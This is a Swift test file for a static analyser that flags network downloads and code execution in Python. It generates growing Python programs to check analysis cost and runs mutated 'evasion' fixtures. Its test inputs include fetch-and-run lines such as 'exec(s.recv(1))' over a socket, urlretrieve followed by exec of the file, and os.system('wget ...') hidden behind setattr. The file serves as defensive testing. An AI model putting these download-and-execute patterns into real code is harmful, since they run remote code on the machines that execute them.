import Core
import Languages
import Rules
import TestSupport
import Testing

/// The whole analysis of Python, from bytes to findings, over damaged and over hostile input.
@Suite struct PythonMutationTests {
  static let corpus = ["bad", "good"].flatMap { kind in
    ProjectFolder.files(below: "Fixtures/evasion/\(kind)").map { "Fixtures/evasion/\(kind)/\($0)" }
  }

  /// Subject and findings of a text.
  private static func analysed(_ text: [UInt8]) throws -> (steps: Int, findings: [Finding]) {
    let path = try RelativePath("load.py")
    let subject = try pythonSubject(text, at: path)
    let findings = RuleCatalogue.all
      .filter { ["download", "execution", "repository"].contains($0.id.family) }
      .flatMap { $0.init().findings(in: subject) }
    return (subject.python.steps, findings)
  }

  private static func repeated(_ text: [UInt8], _ count: Int) -> [UInt8] {
    Array(repeatElement(text + [0x0A], count: count).joined())
  }

  /// Doubling the text takes at most 2.3 times the steps; a few more are nothing.
  private static func expectLinear(_ text: [UInt8], _ what: String) throws {
    let twice = try analysed(repeated(text, 2)).steps
    let fourTimes = try analysed(repeated(text, 4)).steps
    #expect(
      Double(fourTimes) <= 2.3 * Double(twice) + 200, "\(what): \(twice) and \(fourTimes) steps")
  }

  @Test(arguments: corpus)
  func `no mutation crashes or hangs the analysis`(path: String) throws {
    let seed = Array(try ProjectFolder.text(path).utf8)
    var random = TestRandom(seed: UInt64(seed.count))
    for round in 0..<3 {
      let text = Mutation.of(seed, using: &random)
      let result = try Self.analysed(text)
      #expect(result.steps <= 40 * (20_000 + text.count))
      #expect(result.findings.allSatisfy { !$0.message.isEmpty })
      if round == 0 { try Self.expectLinear(text, String(decoding: text, as: UTF8.self)) }
    }
  }

  /// A program that grows with a number.
  struct Growth: CustomTestStringConvertible, Sendable {
    let testDescription: String
    let text: @Sendable (Int) -> String

    init(_ name: String, _ text: @escaping @Sendable (Int) -> String) {
      testDescription = name
      self.text = text
    }
  }

  private static func lines(_ count: Int, _ line: (Int) -> String) -> String {
    (0..<count).map(line).joined(separator: "\n") + "\n"
  }

  private static let imports = "import functools, os, socket, sys, urllib.request\n"

  static let growths = [
    Growth("a chain of assignments") { count in
      "v0 = 'https://a.dev/x'\n" + lines(count) { "v\($0 + 1) = v\($0)" }
        + "urllib.request.urlopen(v\(count))\n"
    },
    Growth("a name set again and again") { count in
      "u = 'https://a.dev/x'\n" + lines(count) { "u = u + '\($0)'\nurllib.request.urlopen(u)" }
    },
    Growth("branches that set one name") { count in
      "u = 'https://a.dev/x'\n"
        + lines(count) { "if sys.argv[\($0)]: u = u + '\($0)'\nurllib.request.urlopen(u)" }
    },
    Growth("conditions on one name") { count in
      "def f(u):\n" + lines(count) { "    if u == '\($0)': os.system(u)" } + "f('wget a.dev')\n"
    },
    Growth("a table and every entry of it") { count in
      "t = {" + (0..<count).map { "'k\($0)': 'https://a.dev/\($0)'" }.joined(separator: ",") + "}\n"
        + lines(count) { "urllib.request.urlopen(t['k\($0)'])" }
    },
    Growth("a table that is filled entry by entry") { count in
      "t = {}\n" + lines(count) { "t['k\($0)'] = 'https://a.dev/\($0)'" }
        + lines(count) { "urllib.request.urlopen(t['k\($0)'])" }
    },
    Growth("functions that call one another in a row") { count in
      "def f0(u): return urllib.request.urlopen(u)\n"
        + lines(count) { "def f\($0 + 1)(u): return f\($0)(u)" } + "f\(count)('https://a.dev/x')\n"
    },
    Growth("functions that all call others") { count in
      lines(count) {
        "def f\($0)(u):\n    f\(($0 * 7 + 1) % count)(u); f\(($0 * 11 + 3) % count)(u)\n"
          + "    urllib.request.urlopen(u)"
      } + "f0('https://a.dev/x')\n"
    },
    Growth("functions that return what others return") { count in
      lines(count) {
        "def f\($0)(u):\n    urllib.request.urlopen(f\(($0 + 1) % count)(u))\n"
          + "    return f\(($0 + 2) % count)(u)"
      }
    },
    Growth("a function that calls itself") { count in
      "def f(u):\n" + lines(count) { _ in "    u = f(u + 'x')" }
        + "    urllib.request.urlopen(u)\n    return u\nf('a')\n"
    },
    Growth("many calls of one wrapper") { count in
      "def f(c): os.system(c)\n" + lines(count) { "f('wget https://a.dev/\($0).bin')" }
    },
    Growth("classes that derive in a row") { count in
      "class C0:\n    def load(self, n): return urllib.request.urlopen(n)\n"
        + lines(count) {
          "class C\($0 + 1)(C\($0)):\n    def load(self, n): return super().load(n)"
        } + "C\(count)().load('https://a.dev/x')\n"
    },
    Growth("classes with two bases at each level") { count in
      "class A0: u = 'https://a.dev/x'\nclass B0(A0): pass\n"
        + lines(count) {
          "class A\($0 + 1)(A\($0), B\($0)): pass\nclass B\($0 + 1)(A\($0), B\($0)): pass"
        } + "urllib.request.urlopen(A\(count).u)\n"
    },
    Growth("attributes that are set from others") { count in
      "class A:\n    def __init__(self):\n        self.a0 = 'https://a.dev/x'\n"
        + lines(count) { "        self.a\($0 + 1) = self.a\($0)" }
        + "    def go(self): urllib.request.urlopen(self.a\(count))\n"
    },
    Growth("lists that hold the one before twice") { count in
      "a0 = ['x', 'y']\n" + lines(count) { "a\($0 + 1) = [a\($0), a\($0)]" }
        + "os.system(a\(count)[0])\ndef f(x): os.system(x)\nf(a\(count))\n"
    },
    Growth("dictionaries that hold the one before twice") { count in
      "a0 = {'x': 'y'}\n" + lines(count) { "a\($0 + 1) = {'k': a\($0), 'l': a\($0)}" }
        + "os.system(a\(count)['k'])\n"
    },
    Growth("text that doubles") { count in
      "a = 'x'\n" + lines(count) { _ in "a = a + a" } + "os.system(a)\n"
    },
    Growth("comprehensions over comprehensions") { count in
      "a0 = ['x', 'y']\n" + lines(count) { "a\($0 + 1) = [u for u in a\($0) for v in a\($0)]" }
        + "os.system(a\(count)[0])\n"
    },
    Growth("lambdas in a row") { count in
      "f0 = lambda u: urllib.request.urlopen(u)\n"
        + lines(count) { "f\($0 + 1) = lambda u: f\($0)(u)" } + "f\(count)('https://a.dev/x')\n"
    },
    Growth("functions with arguments given again and again") { count in
      "f0 = urllib.request.urlopen\n" + lines(count) { "f\($0 + 1) = functools.partial(f\($0))" }
        + "f\(count)('https://a.dev/x')\n"
    },
    Growth("decorators that fetch") { count in
      lines(count) {
        "@urllib.request.urlopen\n@lambda f: 'https://a.dev/\($0)'\ndef f\($0)(): pass"
      }
    },
    Growth("questions over one connection") { count in
      "s = socket.socket()\n" + lines(count) { "s.connect(('a.dev', \($0)))\nexec(s.recv(1))" }
    },
    Growth("attributes of a module set by name") { count in
      lines(count) { "setattr(sys, 'f\($0)', os.system)\nsys.f\($0)('wget a.dev')" }
    },
    Growth("functions that set a global name") { count in
      "u = 'https://a.dev/x'\n"
        + lines(count) {
          "def f\($0)():\n    global u\n    u = u + '\($0)'\n    urllib.request.urlopen(u)"
        }
    },
    Growth("files written and read") { count in
      lines(count) {
        "urllib.request.urlretrieve('https://a.dev/\($0)', 'f\($0)')\nexec(open('f\($0)').read())"
      }
    },
  ]

  @Test(arguments: growths)
  func `twice the program takes at most 2.3 times the steps`(_ growth: Growth) throws {
    let few = try Self.analysed(Array((Self.imports + growth.text(400)).utf8)).steps
    let many = try Self.analysed(Array((Self.imports + growth.text(800)).utf8)).steps
    #expect(Double(many) <= 2.3 * Double(few) + 200, "\(few) and \(many) steps")
  }

  @Test func `lambdas in lambdas that double what they are given are bounded`() throws {
    var text = "x0"
    for depth in 0..<60 { text = "list(map(lambda x\(depth): \(text), ['a', 'b']))" }
    let result = try Self.analysed(
      Array("import urllib.request\nurllib.request.urlopen(\(text)[0])\n".utf8))
    #expect(result.steps <= 200_000)
  }
}
